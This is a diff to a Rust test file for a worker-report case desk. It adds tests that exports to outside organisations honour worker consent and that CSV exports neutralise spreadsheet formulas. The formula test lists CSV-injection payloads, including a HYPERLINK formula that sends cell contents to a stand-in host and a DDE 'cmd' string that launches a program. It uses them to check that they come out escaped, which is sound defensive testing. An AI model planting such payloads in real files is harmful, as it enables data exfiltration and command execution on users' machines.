@@ -1,10 +1,13 @@
 //! Exports: CSV and JSON (own format and HTCDS names) parse back to exactly what was exported,
-//! and free text and contact fields appear only when asked for.
+//! free text and contact fields appear only when asked for, an export for an inspectorate or
+//! an NGO holds only the cases whose worker consented, and CSV cells cannot be formulas.
 
 use crate::common::*;
 use workvoice_desk::Desk;
+use workvoice_desk::DeskError;
 use workvoice_desk::export::{
-    CsvCase, ExportCase, ExportFormat, ExportOptions, HtcdsCase, export_cases, read_csv,
+    CsvCase, ExportAudience, ExportCase, ExportFormat, ExportOptions, HtcdsCase, export_cases,
+    read_csv,
 };
 use workvoice_desk::store::CaseFilter;
 use workvoice_proto::keys::OrgId;
@@ -32,6 +35,7 @@ async fn csv_and_json_round_trip() {
         ExportOptions {
             include_free_text: true,
             include_contact: true,
+            audience: ExportAudience::Internal,
         },
     ] {
         let want = expected(&desk, &filter, options).await;
@@ -128,4 +132,150 @@ async fn htcds_exports_use_the_standards_names_and_round_trip() {
         methods.iter().any(|m| m.contains("WithholdsDocuments")),
         "{methods:?}"
     );
+}
+
+#[tokio::test]
+async fn exports_for_outside_organisations_hold_only_consented_cases() {
+    let (_dir, desk) = fresh_desk().await;
+    let reports = seed_local(&desk, OrgId([3; 16]), 12).await;
+    let filter = CaseFilter::default();
+    let ids = |cases: &[ExportCase]| {
+        let mut ids: Vec<String> = cases.iter().map(|c| c.report_id.clone()).collect();
+        ids.sort();
+        ids
+    };
+    let consented = |pick: fn(&workvoice_proto::routing::Consent) -> bool| {
+        let mut ids: Vec<String> = reports
+            .iter()
+            .filter(|r| pick(&r.consent))
+            .map(|r| r.report_id.to_hex())
+            .collect();
+        ids.sort();
+        ids
+    };
+    let to_inspectorate = consented(|c| c.inspectorate);
+    let to_ngo = consented(|c| c.ngo);
+    // The samples mix consents, so the filter is seen to do something.
+    assert!(!to_inspectorate.is_empty() && to_inspectorate.len() < reports.len());
+    assert!(!to_ngo.is_empty() && to_ngo.len() < reports.len());
+
+    for (audience, want) in [
+        (ExportAudience::Inspectorate, to_inspectorate),
+        (ExportAudience::Ngo, to_ngo),
+        (
+            ExportAudience::Research,
+            ids(&expected(&desk, &filter, ExportOptions::default()).await),
+        ),
+        (
+            ExportAudience::Internal,
+            ids(&expected(&desk, &filter, ExportOptions::default()).await),
+        ),
+    ] {
+        let options = ExportOptions {
+            audience,
+            ..ExportOptions::default()
+        };
+        let json = export_cases(&desk, &filter, ExportFormat::Json, options)
+            .await
+            .unwrap();
+        let back: Vec<ExportCase> = serde_json::from_slice(&json).unwrap();
+        assert_eq!(ids(&back), want, "{audience:?}");
+        let htcds = export_cases(&desk, &filter, ExportFormat::HtcdsCsv, options)
+            .await
+            .unwrap();
+        let rows: Vec<HtcdsCase> = read_csv(&htcds).unwrap();
+        assert_eq!(rows.len(), want.len(), "{audience:?}");
+    }
+
+    // Researchers never get the worker's words or contact fields.
+    for (free_text, contact) in [(true, false), (false, true)] {
+        let refused = export_cases(
+            &desk,
+            &filter,
+            ExportFormat::Csv,
+            ExportOptions {
+                include_free_text: free_text,
+                include_contact: contact,
+                audience: ExportAudience::Research,
+            },
+        )
+        .await;
+        assert!(
+            matches!(refused, Err(DeskError::InvalidInput(_))),
+            "{refused:?}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_are_guarded() {
+    use workvoice_proto::vectors::DeterministicRng;
+    let (_dir, desk) = fresh_desk().await;
+    let mut rng = DeterministicRng::new("formula");
+    let hostile = [
+        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "'=already quoted",
+    ];
+    let key = desk.keys()[0].public_key;
+    let mut entries = Vec::new();
+    for (i, text) in hostile.iter().enumerate() {
+        let (mut report, _) = sample(i, &mut rng);
+        if let Some(recruiter) = report.recruiter.as_mut() {
+            recruiter.name = text.to_string();
+        }
+        report.free_text = text.to_string();
+        entries.push(entry_for(
+            i as u64 + 1,
+            &report,
+            OrgId([3; 16]),
+            key,
+            &mut rng,
+        ));
+    }
+    let (stored, failed) = desk.open_and_store(OrgId([3; 16]), &entries).await.unwrap();
+    assert_eq!((stored.len(), failed), (hostile.len(), 0));
+
+    let options = ExportOptions {
+        include_free_text: true,
+        ..ExportOptions::default()
+    };
+    let filter = CaseFilter::default();
+    for format in [ExportFormat::Csv, ExportFormat::HtcdsCsv] {
+        let bytes = export_cases(&desk, &filter, format, options).await.unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(bytes.as_slice());
+        let mut seen = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{format:?}: a cell a spreadsheet would run: {cell:?}"
+                );
+                if hostile.iter().any(|h| cell == format!("'{h}")) {
+                    seen += 1;
+                }
+            }
+        }
+        assert!(
+            seen >= hostile.len(),
+            "{format:?}: every hostile text is there, guarded"
+        );
+    }
+    // Reading the file back gives the worker's text exactly.
+    let bytes = export_cases(&desk, &filter, ExportFormat::Csv, options)
+        .await
+        .unwrap();
+    let back: Vec<CsvCase> = read_csv(&bytes).unwrap();
+    let mut names: Vec<String> = back
+        .iter()
+        .filter_map(|c| c.recruiter_name.clone())
+        .collect();
+    let mut want: Vec<String> = hostile.iter().map(|h| h.to_string()).collect();
+    names.sort();
+    want.sort();
+    assert_eq!(names, want);
 }
